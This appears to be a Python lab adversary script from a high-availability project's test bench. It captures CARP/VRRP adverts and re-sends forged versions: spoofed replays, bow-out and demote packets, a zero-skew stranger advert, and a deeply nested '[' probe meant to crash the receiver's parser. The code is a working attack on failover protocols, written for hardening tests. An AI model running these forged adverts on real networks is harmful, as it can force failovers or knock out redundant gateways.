"""A host on the client LAN without the secret, attacking the pair's adverts (the hardening
issue's findings, for lab tests and bench/adversary.py).

Run inside a lab namespace on the segment (the client's); captures one advert a unit (--source)
sends on eth0, then re-sends it for --duration, once every --interval, as the chosen attack:

    stranger   the advert from our own address with advskew 0 and advbase 1 (the fields CARP's
               HMAC leaves out; only the checksum fixed): before the fix, both units standby
    replay     the advert as captured, from the active unit's own address (spoofed)
    bow-out    the advert turned into a bow-out (CARP advbase/advskew 255, or the carpool
               form's flag), from the active unit's address: before the fix, a failover
    demote     the advert with demote 255, from the active unit's address
    probe      a protocol-112 datagram with the doctor probe magic and 1150 `[` (the receive
               path's RecursionError), at --rate per second

Prints one JSON object: what was captured and how many were sent. Bounded by --duration and
by a count; traffic only to the lab's segment.
"""

from __future__ import annotations

import argparse
import json
import select
import socket
import struct
import sys
import time
from ipaddress import IPv4Address

from ..ha import probe as doctor_probe
from ..ha.ipv4 import PROTO_CARP, TTL, Ipv4Packet, internet_checksum, parse_ipv4
from ..ha.sealed import FLAG_BOW_OUT, is_sealed

ATTACKS = ("stranger", "replay", "bow-out", "demote", "probe")
GROUP = IPv4Address("224.0.0.18")


def capture(iface: str, source: IPv4Address, timeout: float) -> Ipv4Packet:
    """The first protocol-112 datagram on `iface` from `source` that is not a doctor probe."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, PROTO_CARP)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    mreq = struct.pack("4s4s", GROUP.packed, b"\0" * 4)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    deadline = time.monotonic() + timeout
    try:
        for _ in range(100_000):
            left = deadline - time.monotonic()
            if left <= 0 or not select.select([sock], [], [], left)[0]:
                break
            pkt = parse_ipv4(sock.recv(2048))
            if pkt.src == source and not doctor_probe.is_probe(pkt.payload):
                return pkt
    finally:
        sock.close()
    raise TimeoutError(f"no advert on {iface} within {timeout}s")


def _carp_fields(payload: bytes, advskew: int, advbase: int, demote: int | None) -> bytes:
    """A CARP/VRRP-shaped payload with fields changed and the Internet checksum fixed."""
    body = bytearray(payload)
    body[2] = advskew
    if demote is not None:
        body[4] = demote
    body[5] = advbase
    body[6:8] = b"\0\0"
    body[6:8] = internet_checksum(bytes(body)).to_bytes(2, "big")
    return bytes(body)


def forged(attack: str, captured: Ipv4Packet, stranger: IPv4Address) -> Ipv4Packet:
    """The datagram an attack sends, made from one captured advert."""
    payload = captured.payload
    if attack == "probe":
        return Ipv4Packet(stranger, GROUP, TTL, PROTO_CARP, doctor_probe.MAGIC + b"[" * 1150)
    if attack == "replay":
        return captured
    if is_sealed(payload):  # the carpool form: change the fields, the MAC stays as captured
        body = bytearray(payload)
        if attack == "bow-out":
            body[2] |= FLAG_BOW_OUT
        elif attack == "demote":
            body[3] = 255
        else:
            body[4:6] = b"\0\0"  # the best preference there is
        payload = bytes(body)
    elif attack == "bow-out":
        payload = _carp_fields(payload, 255, 255, None)
    elif attack == "demote":
        payload = _carp_fields(payload, payload[2], payload[5], 255)
    else:
        payload = _carp_fields(payload, 0, 1, None)
    src = stranger if attack == "stranger" else captured.src
    return Ipv4Packet(src, GROUP, TTL, PROTO_CARP, payload)


def attack(
    kind: str,
    iface: str,
    source: IPv4Address,
    stranger: IPv4Address,
    rate: float,
    duration: float,
) -> dict:
    captured = capture(iface, source, timeout=10.0)
    datagram = forged(kind, captured, stranger).pack()
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
    out.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    sent = errors = 0
    start = time.monotonic()
    limit = int(duration * rate) + 1
    try:
        while sent + errors < limit and time.monotonic() - start < duration:
            try:
                out.sendto(datagram, (str(GROUP), 0))
                sent += 1
            except OSError:
                errors += 1
            time.sleep(max(0.0, start + (sent + errors) / rate - time.monotonic()))
    finally:
        out.close()
    return {
        "attack": kind,
        "captured_from": str(captured.src),
        "form": "carpool" if is_sealed(captured.payload) else "carp/vrrp",
        "sent": sent,
        "errors": errors,
        "seconds": round(time.monotonic() - start, 3),
    }


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("attack", choices=ATTACKS)
    p.add_argument("--iface", default="eth0")
    p.add_argument("--source", type=IPv4Address, required=True, help="the unit to capture")
    p.add_argument("--stranger", type=IPv4Address, default=IPv4Address("198.18.0.250"))
    p.add_argument("--rate", type=float, default=2.0, help="datagrams per second")
    p.add_argument("--duration", type=float, default=10.0)
    args = p.parse_args(argv)
    result = attack(args.attack, args.iface, args.source, args.stranger, args.rate, args.duration)
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
